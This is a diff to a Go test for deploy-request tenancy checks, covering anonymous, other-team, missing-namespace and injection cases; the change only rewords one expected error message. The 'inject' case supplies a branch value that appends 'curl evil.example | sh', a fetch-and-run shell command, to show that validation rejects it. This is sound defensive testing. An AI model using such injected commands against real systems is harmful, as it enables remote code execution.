@@ -181,7 +181,7 @@ func TestDeployRequestTenancy(t *testing.T) {
 		body   string
 		reason string
 	}{
-		"anonymous":   {ciShop, "", body("main", t0.Add(3*time.Second)), "unauthenticated request: no AMQP user_id"},
+		"anonymous":   {ciShop, "", body("main", t0.Add(3*time.Second)), "unauthenticated DevOpsReconcile: no AMQP user_id"},
 		"other-team":  {ciOther, "ci-other", body("main", t0.Add(3*time.Second)), `unauthorised: broker user "ci-other" may not deploy JenkinsPipeline deploy-tenancy/shop-dev`},
 		"no-ns":       {ciShop, "ci-shop", `{"project": "shop", "environment": "dev", "requestedAt": "2026-01-01T00:00:00Z"}`, "namespace"},
 		"inject":      {ciShop, "ci-shop", body("main; curl evil.example | sh", t0.Add(3*time.Second)), "is not a git ref"},
